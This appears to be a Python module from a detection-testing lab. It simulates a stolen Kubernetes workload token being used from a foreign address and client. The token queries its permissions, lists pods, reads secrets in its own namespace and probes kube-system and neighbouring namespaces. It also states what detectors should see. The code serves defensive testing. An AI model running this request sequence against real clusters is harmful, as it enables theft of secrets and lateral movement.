"""Attack: stolen workload token used from a new address and client.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, context, paths

CARD = base.Card(
    id="stolen-token-new-address",
    title="Stolen workload token used from a new address and client",
    technique=base.Technique(id="T1550.001", name="Application Access Token", tactic="Lateral Movement"),
    use_case=vocabulary.UseCase.CREDENTIAL_MISUSE,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Takes the token of a running workload out of its pod and uses it from an address on the internet with "
        "a stranger's kubectl: asks who it is and what it may do, lists pods and secrets at home, then tries "
        "the neighbours and is refused."
    ),
    seen_by=(
        "The credential is bound to a pod, but its requests come from an address that is no pod's and a client "
        "the workload never used; refusals follow."
    ),
    cleans_up="Leaves nothing behind: it only reads.",
    victim=base.Part.APP,
    catalogues=(
        "Microsoft: Access the K8S API server",
        "GuardDuty: AnomalousBehavior.SecretsAccessed",
    ),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.APP)
    thief = ctx.act_as(victim, source_ip=ctx.stranger_ip(), user_agent=context.KUBECTL)
    review = {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}
    yield thief.create("/apis/authentication.k8s.io/v1/selfsubjectreviews", review)
    rules = {
        "apiVersion": "authorization.k8s.io/v1",
        "kind": "SelfSubjectRulesReview",
        "spec": {"namespace": victim.namespace},
    }
    yield thief.create("/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", rules)
    yield thief.get(paths.core("pods", victim.namespace), {"limit": 500})
    answer = yield thief.get(paths.core("secrets", victim.namespace), {"limit": 500})
    for namespace, name in answer.items()[:4]:
        yield thief.get(paths.core("secrets", namespace, name))
    for namespace in ("kube-system", *ctx.namespaces(other_than=[victim.namespace])[:4]):
        yield thief.get(paths.core("secrets", namespace), {"limit": 500})


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
